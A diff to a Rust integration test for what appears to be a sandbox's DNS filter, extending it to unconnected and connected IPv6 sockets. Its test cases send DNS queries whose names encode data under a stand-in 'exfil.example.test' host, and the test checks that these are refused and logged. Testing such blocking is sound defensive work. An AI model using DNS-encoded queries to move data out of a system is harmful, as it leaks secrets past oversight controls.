@@ -86,25 +86,23 @@ fn refused_names_never_reach_the_resolver_not_even_the_first() {
 /// resolvers check), and a refused name never reaches the resolver. One
 /// agent run per family: the first query opens the gates for both.
 #[test]
-fn unconnected_first_queries_are_caught_too() {
+fn first_queries_are_caught_on_unconnected_and_ipv6_connected_sockets() {
     if !require_root() {
         return;
     }
     let bench = Bench::start().unwrap();
+    let v6 = ("2001:db8:53::53", "AAAA", "2001:db8:100::10", "2001:db8:100::10 443");
     let cases = [
-        ("198.51.100.53", "A", "mfrggzdfmztwq2lk.v4.exfil.example.test", "203.0.113.10", "203.0.113.10 443"),
-        (
-            "2001:db8:53::53",
-            "AAAA",
-            "mfrggzdfmztwq2lk.v6.exfil.example.test",
-            "2001:db8:100::10",
-            "2001:db8:100::10 443",
-        ),
+        ("198.51.100.53", "A", "mfrggzdfmztwq2lk.v4.exfil.example.test", "203.0.113.10", "203.0.113.10 443", "--unconnected"),
+        (v6.0, v6.1, "mfrggzdfmztwq2lk.v6.exfil.example.test", v6.2, v6.3, "--unconnected"),
+        // A connected IPv6 socket (glibc with an IPv6 nameserver): caught
+        // through the IPv4 placeholder (`sock::catch_via_placeholder`).
+        (v6.0, v6.1, "mfrggzdfmztwq2lk.v6c.exfil.example.test", v6.2, v6.3, ""),
     ];
-    for (resolver, qtype, leak, ip, target) in cases {
+    for (resolver, qtype, leak, ip, target, flags) in cases {
         let r = Exec::new(&bench).policy(POLICY).steps(&[
-            ("leak", &format!("$PY $DNSQ {resolver} {leak} --type {qtype} --unconnected --wait 0.2")),
-            ("allowed", &format!("$PY $DNSQ {resolver} api.example.test --type {qtype} --unconnected --wait 0.2")),
+            ("leak", &format!("$PY $DNSQ {resolver} {leak} --type {qtype} {flags} --wait 0.2")),
+            ("allowed", &format!("$PY $DNSQ {resolver} api.example.test --type {qtype} {flags} --wait 0.2")),
             ("connect", &format!("$PY $SOCK tcp {target}")),
         ]);
         r.outcome.expect_code(0);
@@ -112,16 +110,28 @@ fn unconnected_first_queries_are_caught_too() {
             let st = r.get(step);
             let v: serde_json::Value = serde_json::from_str(st.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {st:?}"));
             let a = &v["answer"];
-            assert_eq!(a["rcode"], rcode, "{resolver}: {v}");
-            assert_eq!(a["id_ok"], true, "{resolver}: {v}");
-            assert_eq!(a["from_ok"], true, "{resolver}: the answer must come from the resolver: {v}");
+            assert_eq!(a["rcode"], rcode, "{resolver} {flags}: {v}");
+            assert_eq!(a["id_ok"], true, "{resolver} {flags}: {v}");
+            assert_eq!(a["from_ok"], true, "{resolver} {flags}: the answer must come from the resolver: {v}");
             if step == "allowed" {
-                assert_eq!(a["ips"][0], ip, "{resolver}: {v}");
+                assert_eq!(a["ips"][0], ip, "{resolver} {flags}: {v}");
             }
         }
-        assert_eq!(r.sock("connect")["ok"], true, "{resolver}: the caught answer was learned from");
-        assert_eq!(queries_for(&bench, leak), 0, "{resolver}: a refused first query reached the resolver");
+        assert_eq!(r.sock("connect")["ok"], true, "{resolver} {flags}: the caught answer was learned from");
+        assert_eq!(queries_for(&bench, leak), 0, "{resolver} {flags}: a refused first query reached the resolver");
         r.log().expect(resolver, 53, &[("reason", s("denied-dns-name")), ("host", s(leak))]);
     }
+    // An IPV6_V6ONLY socket (dig) cannot take the placeholder: it keeps the
+    // hold path, and resolving still works.
+    let r = Exec::new(&bench).policy(POLICY).steps(&[
+        ("allowed", &format!("$PY $DNSQ {} api.example.test --type AAAA --v6only --wait 0.2", v6.0)),
+        ("connect", &format!("$PY $SOCK tcp {}", v6.3)),
+    ]);
+    r.outcome.expect_code(0);
+    let st = r.get("allowed");
+    let v: serde_json::Value = serde_json::from_str(st.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {st:?}"));
+    assert_eq!(v["answer"]["rcode"], 0, "V6ONLY: {v}");
+    assert_eq!(v["answer"]["from_ok"], true, "V6ONLY: {v}");
+    assert_eq!(r.sock("connect")["ok"], true, "V6ONLY: learned");
     assert!(queries_for(&bench, "api.example.test") >= 2, "allowed queries do reach it");
 }
